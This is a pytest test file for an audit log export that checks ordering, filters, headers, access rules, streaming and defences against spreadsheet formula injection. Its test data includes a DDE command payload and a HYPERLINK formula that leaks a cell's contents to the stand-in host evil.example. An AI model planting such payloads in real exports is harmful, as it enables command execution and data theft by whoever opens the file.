"""The export of the audit log: complete, ordered, streamed, and safe to open in a spreadsheet."""

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import urlencode

import pytest
from pydantic import SecretStr
from webtest import TestApp

from registry_api.dao.audit_export import AuditExport
from registry_api.models import AuditEntry
from registry_api.resources.spreadsheet import escape_formula
from tests.conftest import NewApp
from tests.support.given import Given, Sql
from tests.support.pagination import all_items
from tests.support.people import Answer, Person, field_errors, in_process, refused
from tests.support.served import Served

COLUMNS = AuditExport.columns


def exported(who: Person, **query: object) -> Answer:
    answer = who.get("/audit/export", **query)
    assert answer.status == 200, answer.text
    return answer


def lines(who: Person, **query: object) -> list[dict[str, Any]]:
    """Return the entries of an export as JSON Lines."""
    body = exported(who, format="jsonl", **query).body
    assert body.endswith(b"\n") or not body
    return [json.loads(line) for line in body.split(b"\n")[:-1]]


def table(text: str) -> list[dict[str, str]]:
    """Require RFC 4180 with a byte order mark, and return the rows."""
    assert text.startswith("\ufeff")
    assert text.endswith("\r\n")
    header, *rows = csv.reader(io.StringIO(text[1:], newline=""), strict=True)
    assert tuple(header) == COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


def rows(who: Person, **query: object) -> list[dict[str, str]]:
    return table(exported(who, **query).text)


def lifecycle(ana: Person, mia: Person, given: Given) -> dict[str, Any]:
    """Create, edit, reject and delete a registration."""
    made = given.registration(by=ana, endpoint_name="Wetter")
    there = f"/registrations/{made['registration_id']}"
    assert (
        ana.patch(there, {"endpoint_name": "Weather", "available_tools": ["a"]}, {"X-Request-ID": "r1"}).status == 200
    )
    assert mia.set_status(made, "Rejected", reason="No, because…").status == 200
    assert mia.delete(there).status == 204
    return made


# ---------------------------------------------------------------------------------------------------------- content


def test_json_lines_are_the_audit_entries_oldest_first(ana: Person, mia: Person, given: Given) -> None:
    lifecycle(ana, mia, given)
    given.registration(status="Approved")
    found = lines(mia)
    assert found == all_items(mia, "/audit")[::-1]
    assert [entry["action"] for entry in found] == ["Created", "Updated", "Rejected", "Deleted", "Created", "Approved"]
    for entry in found:
        AuditEntry.model_validate(entry)


def test_csv_has_one_row_per_entry(ana: Person, mia: Person, given: Given) -> None:
    made = lifecycle(ana, mia, given)
    entries = lines(mia)
    found = rows(mia)
    assert [row["log_id"] for row in found] == [entry["log_id"] for entry in entries]
    assert found[1] == {
        "timestamp": entries[1]["timestamp"],
        "action": "Updated",
        "registration_id": made["registration_id"],
        "endpoint_name": "Weather",
        "endpoint_url": made["endpoint_url"],
        "user_id": ana.user_id,
        "display_name": "Ana Example",
        "email": "ana@example.com",
        "previous_status": "Pending",
        "new_status": "Pending",
        "reason": "",
        "changes": found[1]["changes"],
        "request_id": "r1",
        "log_id": entries[1]["log_id"],
        "published_version": "",
    }
    assert json.loads(found[1]["changes"]) == entries[1]["metadata"]["changes"]
    assert (found[2]["display_name"], found[2]["reason"]) == ("Mia Example", "No, because…")
    assert (found[3]["action"], found[3]["previous_status"], found[3]["new_status"]) == ("Deleted", "Rejected", "")


def test_csv_has_the_note_and_the_version_of_an_approval(mia: Person, given: Given) -> None:
    given.registration(status="Approved", reason="Owned and documented.")
    approved = rows(mia)[1]
    assert (approved["reason"], approved["published_version"]) == ("Owned and documented.", "1.0.0")


def test_every_row_names_its_registration_even_if_it_is_deleted(ana: Person, mia: Person, given: Given) -> None:
    lifecycle(ana, mia, given)
    given.registration(endpoint_name="Tickets", status="Approved")
    assert [row["endpoint_name"] for row in rows(mia)] == ["Weather"] * 4 + ["Tickets"] * 2


def test_an_empty_log_is_exported_as_an_empty_file(mia: Person) -> None:
    assert rows(mia) == []
    assert lines(mia) == []


def test_without_matches_the_file_is_empty(mia: Person, given: Given) -> None:
    given.registration()
    assert rows(mia, action="Deleted") == []
    assert lines(mia, action="Deleted") == []


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_the_filters_are_those_of_the_log(ana: Person, mia: Person, given: Given, kind: str) -> None:
    made = lifecycle(ana, mia, given)
    given.registration(status="Approved")
    times = [entry["timestamp"] for entry in lines(mia)]
    for query in (
        {"registration_id": made["registration_id"]},
        {"user_id": mia.user_id},
        {"action": "deleted,UPDATED"},
        {"action": "Created", "user_id": ana.user_id},
        {"since": times[1], "until": times[4]},
        {"since": times[2]},
        {"until": times[0]},
        {"action": ""},
    ):
        expected = [entry["log_id"] for entry in all_items(mia, "/audit", **query)][::-1]
        found: list[Any] = rows(mia, **query) if kind == "csv" else lines(mia, **query)
        assert [entry["log_id"] for entry in found] == expected


@pytest.mark.parametrize(
    ("name", "value"),
    [
        *(("format", "xlsx"), ("format", "CSV"), ("limit", "5"), ("cursor", "x"), ("since", "yesterday")),
        *(("user_id", "me"), ("action", "Pending"), ("status", "Approved")),
    ],
)
def test_an_invalid_query_is_refused(mia: Person, name: str, value: str) -> None:
    assert field_errors(mia.get("/audit/export", **{name: value})).keys() == {name}


def test_entries_of_one_timestamp_are_exported_once_each(mia: Person, given: Given) -> None:
    given.entries(450, apart="0 s")
    found = [entry["log_id"] for entry in lines(mia)]
    assert len(found) == len(set(found)) == 450
    assert found == sorted(found)


def test_metadata_stored_on_several_lines_is_exported_on_one(mia: Person, given: Given) -> None:
    """Imported entries may have indented JSON."""
    given.entries(3, metadata='{\r\n  "request_id": "x",\n  "reason": "two\\nlines"\n}')
    assert [entry["metadata"] for entry in lines(mia)] == [{"request_id": "x", "reason": "two\nlines"}] * 3


# ---------------------------------------------------------------------------------------------------------- headers


@pytest.mark.parametrize(
    ("kind", "media_type"), [("csv", "text/csv; charset=utf-8; header=present"), ("jsonl", "application/jsonl")]
)
def test_an_export_is_a_download_that_is_not_cached(mia: Person, kind: str, media_type: str) -> None:
    for answer in (exported(mia, format=kind), mia.head(f"/audit/export?format={kind}")):
        assert (answer.status, answer.headers["Content-Type"]) == (200, media_type)
        assert answer.headers["Cache-Control"] == "no-store"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        named = re.fullmatch(
            rf'attachment; filename="registry-audit-(\d{{8}}T\d{{6}}Z)\.{kind}"', answer.headers["Content-Disposition"]
        )
        assert named
        at = datetime.strptime(named[1], "%Y%m%dT%H%M%S%z")
        assert abs(datetime.now(UTC) - at) < timedelta(minutes=1)
    assert answer.body == b""


def test_csv_can_have_semicolons(ana: Person, mia: Person, given: Given) -> None:
    given.registration(by=ana.with_claims(name='a;b,c"d'), endpoint_name="=1;2")
    text = exported(mia, separator="semicolon").text
    assert text.startswith('\ufeff"timestamp";"action";')
    parsed = csv.reader(io.StringIO(text[1:], newline=""), delimiter=";", strict=True)
    assert [dict(zip(COLUMNS, row, strict=True)) for row in parsed][1:] == rows(mia)
    assert rows(mia, separator="comma") == rows(mia)
    assert exported(mia, separator="semicolon", format="jsonl").body == exported(mia, format="jsonl").body
    assert field_errors(mia.get("/audit/export", separator=";")).keys() == {"separator"}


def test_csv_is_the_default_format(mia: Person) -> None:
    assert exported(mia).headers["Content-Type"].startswith("text/csv")


def test_head_of_a_stream_has_no_content_length(served: Served, ana: Person, mia: Person) -> None:
    for who in (mia, mia.at(served.send)):
        answer = who.head("/audit/export")
        assert (answer.status, answer.headers["Content-Length"], answer.body) == (200, None, b"")
    assert int(ana.head("/registrations/summary").headers["Content-Length"]) == len(
        ana.get("/registrations/summary").body
    )


def test_head_is_refused_like_get(ana: Person, mia: Person) -> None:
    assert ana.head("/audit/export").status == 403
    assert mia.head("/audit/export?format=xlsx").status == 422


def test_only_administrators_export(ana: Person, anyone: Person, given: Given) -> None:
    made = given.registration(by=ana)
    refused(ana.get("/audit/export"), 403, "FORBIDDEN")
    refused(ana.get("/audit/export", registration_id=made["registration_id"]), 403, "FORBIDDEN")
    refused(anyone.get("/audit/export"), 401, "TOKEN_MISSING")


def test_http_1_0_is_refused_because_it_cannot_signal_a_broken_transfer(new_app: NewApp, mia: Person) -> None:
    old = mia.at(in_process(new_app(), SERVER_PROTOCOL="HTTP/1.0"))
    refused(old.get("/audit/export"), 505, "REFUSED")
    assert old.get("/audit").status == 200


# --------------------------------------------------------------------------------------------------------- formulas


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
@pytest.mark.parametrize("prefix", ["", " ", "   ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u2028", "\u202e"])
def test_a_formula_gets_an_apostrophe(first: str, prefix: str) -> None:
    text = f"{prefix}{first}HYPERLINK(1)"
    if not prefix or first.isprintable():
        assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "a=1", "1-2", "ana@example.com", "'=1", '"=1"', "Ünïcode 天気 ☂", "a\n=1", "{}", " a"]
)
def test_a_text_that_is_no_formula_is_unchanged(text: str) -> None:
    assert escape_formula(text) == text
    assert escape_formula(None) == ""


@pytest.mark.parametrize("letter", ["x", "é", "天", "😀", '"'])
def test_a_text_too_long_for_a_cell_is_cut_with_a_note(letter: str) -> None:
    size = len(letter.encode("utf-16-le")) // 2
    longest = letter * (32_767 // size)
    assert escape_formula(longest) == longest
    cut = escape_formula(longest + letter)
    assert len(cut.encode("utf-16-le")) // 2 <= 32_767
    assert cut.startswith(letter * 16_000)
    assert cut.endswith("(cut: longer than a cell can be)")
    assert escape_formula("=" + longest).startswith(f"'={letter}")


DIFFICULT_TEXTS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '","=1+1","',
    ";=1+1;",
    'a "quoted" word, a comma\r\nand a second line',
    "-2+3",
    "@SUM(1)",
    "天気 ☂ é 😀 \u2028 \u0085 x",
]


@pytest.mark.parametrize("words", DIFFICULT_TEXTS)
def test_cells_are_read_back_exactly_except_for_the_apostrophe(
    ana: Person, mia: Person, given: Given, words: str
) -> None:
    who = ana.with_claims(name=words)
    made = given.registration(by=who, endpoint_name=words, description=words)
    assert mia.set_status(made, "Rejected", reason=words).status == 200
    expected = f"'{words}" if words[0] in "=-@" else words
    text = exported(mia).text
    created, rejected = table(text)
    assert (created["endpoint_name"], created["display_name"]) == (expected, expected)
    assert rejected["reason"] == expected
    # Every cell is quoted, so a separator within a cell starts no other cell; no cell starts like a formula.
    assert re.fullmatch(r'\ufeff(?:(?:"(?:[^"]|"")*",?)+\r\n)+', text)
    assert not re.search(r'(^|[,\n])"\s*[=+\-@]', text)
    assert lines(mia)[1]["metadata"]["reason"] == words


# ---------------------------------------------------------------------------------------------------------- streams


def pieces(app: Any, who: Person, **query: object) -> Iterator[bytes]:
    """Yield the chunks of an export as a WSGI server receives them."""
    request = TestApp.RequestClass.blank(f"/audit/export?{urlencode(query)}", environ={"SERVER_PROTOCOL": "HTTP/1.1"})
    request.headers["Authorization"] = f"Bearer {who.token}"
    status, _, stream = request.call_application(app)
    assert status == "200 OK"
    return iter(stream)


def test_no_connection_is_held_while_the_client_receives(new_app: NewApp, mia: Person, given: Given) -> None:
    given.entries(1000)
    app = new_app(db_pool_min_size=1, db_pool_max_size=1, db_pool_timeout=0.5)
    here = mia.at(in_process(app))
    stream = pieces(app, mia, format="jsonl")
    assert next(stream)
    assert here.get("/audit", limit=1).status == 200
    assert next(stream)
    stream.close()  # type: ignore[attr-defined]
    assert here.get("/audit", limit=1).status == 200


def test_entries_written_during_an_export_are_not_in_it(new_app: NewApp, mia: Person, given: Given, sql: Sql) -> None:
    given.entries(1000)
    stream = pieces(new_app(), mia, format="jsonl")
    text = next(stream)
    given.registrations("abc")
    given.entries(300)
    assert len((text + b"".join(stream)).splitlines()) == 1000
    assert sql("SELECT count(*) FROM audit_log") == [(1303,)]
    assert len(lines(mia)) == 1303


def test_the_chunks_of_an_export_are_limited_by_size(new_app: NewApp, mia: Person, given: Given) -> None:
    large = json.dumps({"request_id": "x", "changes": {"available_tools": {"old": ["a" * 250_000], "new": []}}})
    given.entries(30, metadata=large)
    given.entries(500)
    sizes = [len(piece) for piece in pieces(new_app(), mia, format="jsonl")]
    assert max(sizes) < 1024 * 1024 + 2 * len(large)
    assert sum(sizes) > 30 * len(large)
    assert len(lines(mia)) == 530
    assert max(len(row["changes"]) for row in rows(mia)) == 32_767


def test_an_error_before_the_first_chunk_is_a_problem(new_app: NewApp, mia: Person, sql: Sql) -> None:
    assert mia.get("/audit").status == 200  # caches the caller
    sql("ALTER TABLE audit_log RENAME TO gone")
    try:
        for kind in ("csv", "jsonl"):
            answer = mia.get("/audit/export", format=kind)
            refused(answer, 500, "INTERNAL_ERROR")
            assert answer.headers["Content-Disposition"] is None
    finally:
        sql("ALTER TABLE gone RENAME TO audit_log")
    without_database = mia.at(
        in_process(new_app(database_url=SecretStr("host=127.0.0.1 port=1 user=x"), db_pool_timeout=0.1))
    )
    answer = without_database.get("/audit/export")
    refused(answer, 503, "UNAVAILABLE")
    assert answer.headers["Content-Disposition"] is None
